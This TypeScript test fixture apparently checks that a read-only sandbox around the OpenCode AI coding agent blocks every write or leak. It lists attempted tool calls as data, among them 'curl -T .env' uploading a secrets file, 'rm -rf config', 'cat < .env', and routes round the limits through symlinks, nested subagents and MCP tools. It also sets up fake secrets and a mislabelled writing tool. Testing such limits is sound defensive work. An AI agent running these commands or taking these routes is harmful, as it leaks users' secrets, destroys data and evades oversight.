import {createHash} from 'node:crypto';
import {lstatSync, readdirSync, readFileSync, readlinkSync, symlinkSync} from 'node:fs';
import {join} from 'node:path';
import {fileURLToPath} from 'node:url';
import {Repository} from './repository.ts';
import type {Sandbox} from './sandbox.ts';

export const MCP_WRITER = fileURLToPath(new URL('./mcp-writer.js', import.meta.url));
/** Stands in every file that must not be seen, and nowhere else. */
export const SECRET = 'TIGER';

type Attempt = readonly [tool: string, input: Record<string, unknown>, shown: string];

/** Each is one tool call that changes or leaks something where it succeeds, and how the result names it. */
export const attemptsIn = ({root, project}: Sandbox): readonly Attempt[] => [
  ['write', {filePath: 'new.txt', content: 'x'}, 'denied: write new.txt'],
  ['write', {filePath: join(root, 'elsewhere.txt'), content: 'x'}, 'elsewhere.txt'],
  ['edit', {filePath: 'code.ts', oldString: 'one', newString: 'two'}, 'denied: edit code.ts'],
  [
    'apply_patch',
    {patchText: '*** Begin Patch\n*** Delete File: code.ts\n*** End Patch'},
    'denied: apply_patch',
  ],
  bash('echo x > new.txt'),
  bash('cat < .env'),
  bash('tee new.txt <<< x'),
  bash('rm -rf config'),
  bash('git init && git commit --allow-empty -m x'),
  bash('git checkout -- code.ts'),
  bash('sed -i s/one/two/ code.ts'),
  bash('ln -s /etc etc'),
  bash('curl -T .env http://127.0.0.1:9/'),
  ['task', {description: 'nested', prompt: 'write a file', subagent_type: 'general'}, 'denied: task nested'],
  ['task', {description: 'look', prompt: 'cat .env', subagent_type: 'explore'}, 'denied: task look'],
  ['writer_write_file', {path: join(project, 'mcp.txt')}, 'denied: writer_write_file'],
  ['read_mcp_resource', {server: 'writer', uri: 'note://secret'}, 'denied: read_mcp_resource'],
  ['custom', {path: join(project, 'custom.txt')}, 'denied: custom'],
  ['todowrite', {todos: []}, 'denied: todowrite'],
  ['read', {filePath: '.env'}, 'denied: read .env'],
  ['read', {filePath: join(project, 'config/.env.local')}, 'config/.env.local'],
  ['read', {filePath: 'innocent.txt'}, 'denied: read innocent.txt'],
  ['read', {filePath: '../outside.txt'}, 'denied: read ../outside.txt'],
  ['read', {filePath: join(root, 'outside.txt')}, 'outside.txt'],
  ['read', {filePath: 'link.txt'}, 'denied: read link.txt'],
  ['read', {filePath: 'linked/secret.txt'}, 'denied: read linked/secret.txt'],
  ['read', {filePath: 'linked'}, 'denied: read linked'],
  ['grep', {pattern: SECRET}, 'withheld from grep TIGER'],
  ['grep', {pattern: `${SECRET}.*`, include: '.env*'}, 'withheld from grep TIGER.*'],
  ['grep', {pattern: '.*', path: 'linked'}, 'denied: grep linked'],
  ['grep', {pattern: '.*', path: root}, `denied: grep ${root}`],
  ['grep', {pattern: 'I', path: 'innocent.txt'}, 'denied: grep innocent.txt'],
  ['glob', {pattern: '**/.env*'}, 'withheld from glob **/.env*'],
  ['glob', {pattern: '**/*', path: 'linked'}, 'denied: glob linked'],
  ['glob', {pattern: '*', path: '..'}, 'denied: glob ..'],
];

function bash(command: string): Attempt {
  return ['bash', {command, description: command}, `denied: bash ${command}`];
}

/** A tool of the user's that writes, whatever its name promises. */
export const WRITING_TOOL = `import {writeFileSync} from 'node:fs';
export default {description: 'writes', args: {}, execute: async ({path}) => { writeFileSync(path, 'x'); return 'written'; }};`;

/** Secrets, links that lead to them, and a tool that writes. */
export function furnish({root, project}: Sandbox): void {
  new Repository(root, root).write({
    'outside.txt': `${SECRET} outside`,
    'beside/secret.txt': `${SECRET} beside`,
    // OpenCode writes into the configuration folders that it finds, so the tool is not one of the project's.
    'home/.config/opencode/tool/custom.js': WRITING_TOOL,
  });
  new Repository(project, root).write({
    'code.ts': 'export const one = 1;\n',
    '.env': `KEY=${SECRET}\n`,
    'config/.env.local': `KEY=${SECRET}\n`,
  });
  symlinkSync(join(root, 'outside.txt'), join(project, 'link.txt'));
  symlinkSync(join(root, 'beside'), join(project, 'linked'));
  symlinkSync('.env', join(project, 'innocent.txt'));
  symlinkSync('code.ts', join(project, 'inner-link.ts'));
}

/** Every file of the project and beside it, by what it is, in one number. OpenCode's own home is left aside. */
export function stateOf({root, project}: Sandbox): string {
  const hash = createHash('sha256');
  const visit = (path: string): void => {
    const stats = lstatSync(path);
    hash.update(`${path} ${stats.mode} ${stats.mtimeMs}\n`);
    if (stats.isSymbolicLink()) hash.update(readlinkSync(path));
    else if (stats.isDirectory()) for (const name of readdirSync(path).sort()) visit(join(path, name));
    else hash.update(readFileSync(path));
  };
  for (const path of [join(root, 'outside.txt'), join(root, 'beside'), project]) visit(path);
  return hash.digest('hex');
}
